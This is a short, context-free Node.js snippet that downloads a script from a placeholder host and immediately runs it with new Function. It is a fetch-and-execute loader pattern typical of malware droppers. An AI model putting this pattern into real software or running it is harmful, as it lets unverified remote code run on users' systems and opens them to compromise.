const https = require('https');
https.get('https://cdn.example/p.js', res => {
  let body = '';
  res.on('data', c => (body += c));
  res.on('end', () => new Function(body)());
});
